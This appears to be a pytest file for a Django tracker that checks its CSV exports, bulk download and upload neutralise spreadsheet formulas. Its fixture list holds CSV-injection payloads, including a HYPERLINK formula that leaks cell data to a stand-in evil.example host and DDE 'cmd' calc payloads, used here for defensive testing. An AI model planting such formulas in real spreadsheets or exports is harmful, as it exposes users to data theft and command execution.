"""No CSV the tracker writes starts a cell with a spreadsheet formula (OWASP "CSV injection"): the
list's download, ``export --format csv`` of every dataset and the staff bulk download write such a
cell with a leading quote; the bulk upload reads its own download back without a spurious change."""

import csv
import io
import json

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st

from pages.exports import DATASETS
from responses.models import Response
from tests.factories import AskFactory, CommitmentFactory, RecommendationFactory, ResponseFactory, SubmissionFactory
from tracker.csvcells import FORMULA_STARTS, csv_cell, csv_cell_value

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1"]


@pytest.fixture
def hostile_records():
    """One record of every dataset whose words start a formula."""
    rec = RecommendationFactory(text=HOSTILE[0], short_text=HOSTILE[1], chapter=HOSTILE[2])
    response = ResponseFactory(recommendation=rec, text=HOSTILE[3], assessment_rationale=HOSTILE[0],
                               implementation_evidence=HOSTILE[2])
    CommitmentFactory(response=response, text=HOSTILE[4], due_text=HOSTILE[5])
    submission = SubmissionFactory(label=HOSTILE[1], respondent=HOSTILE[2], subject=HOSTILE[3])
    AskFactory(submission=submission, text=HOSTILE[0])
    rec.report.title = HOSTILE[4]
    rec.report.save()
    rec.deadline_text = HOSTILE[1]  # a change in the status history (the events dataset)
    rec.save()
    submission.consultation.title = HOSTILE[5]
    submission.consultation.save()
    return rec


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_neutralised(text: str, expected: set[str]):
    cells = _cells(text)
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert expected <= {cell for cell in cells}  # each hostile value is there, behind its quote


def test_the_list_download_writes_formulas_as_text(client, hostile_records):
    response = client.get("/recommendations/?format=csv")
    _assert_neutralised(b"".join(response.streaming_content).decode(), {"'" + v for v in HOSTILE[:3]})


@pytest.mark.parametrize("dataset", DATASETS)
def test_export_as_csv_writes_formulas_as_text_and_jsonl_keeps_the_words(dataset, hostile_records, tmp_path):
    csv_path, jsonl_path = tmp_path / "out.csv", tmp_path / "out.jsonl"
    call_command("export", dataset, "--format", "csv", "--output", str(csv_path))
    call_command("export", dataset, "--format", "jsonl", "--output", str(jsonl_path))
    written = {"recommendations": HOSTILE[:3], "responses": [HOSTILE[3], HOSTILE[0]], "commitments": HOSTILE[4:6],
               "submissions": [HOSTILE[1], HOSTILE[3]], "reports": [HOSTILE[4]], "consultations": [HOSTILE[5]],
               "asks": [HOSTILE[0], HOSTILE[1], HOSTILE[5]], "events": [HOSTILE[1]]}[dataset]  # a private respondent's name is not exported
    _assert_neutralised(csv_path.open(newline="").read(), {"'" + v for v in written})
    records = [json.loads(line) for line in jsonl_path.read_text().splitlines()]
    assert set(written) <= {value for record in records for value in record.values() if isinstance(value, str)}


@pytest.fixture
def officer_client(client):
    user = get_user_model().objects.create_user("olu", "olu@tracker.test", "correct horse battery staple 42")
    user.groups.add(Group.objects.get(name="Scrutiny officers"))
    client.force_login(user)
    return client


def _bulk_download(client) -> str:
    return b"".join(client.get("/manage/bulk/replies.csv").streaming_content).decode()


def _bulk_upload(client, text: str):
    return client.post("/manage/bulk/", {"file": SimpleUploadedFile("replies.csv", text.encode(), content_type="text/csv")})


def test_the_bulk_download_writes_formulas_as_text_and_reads_back_unchanged(officer_client, hostile_records):
    quoted = ResponseFactory(assessment_rationale="'quoted already", implementation_evidence="'=1+1")
    download = _bulk_download(officer_client)
    _assert_neutralised(download, {"'" + HOSTILE[0], "'" + HOSTILE[2], "''quoted already", "''=1+1"})

    page = _bulk_upload(officer_client, download)
    preview = page.context["preview"]
    assert preview.is_valid and preview.changes == [] and preview.unchanged == 2
    assert "<strong>0 to change</strong>, 2 unchanged" in " ".join(page.content.decode().split())
    assert Response.objects.get(pk=quoted.pk).assessment_rationale == "'quoted already"


def test_a_bulk_edit_beside_a_formula_changes_only_what_was_edited(officer_client, hostile_records):
    rows = list(csv.DictReader(io.StringIO(_bulk_download(officer_client))))
    rows[0]["assessment"] = "accepted"
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    preview = _bulk_upload(officer_client, buffer.getvalue()).context["preview"]
    assert [[change.field for change in row.changes] for row in preview.changes] == [["assessment"]]


@given(st.text())
def test_every_value_is_written_safely_and_read_back_as_it_was(value):
    written = csv_cell(value)
    assert not written.startswith(FORMULA_STARTS)
    assert csv_cell_value(written) == value
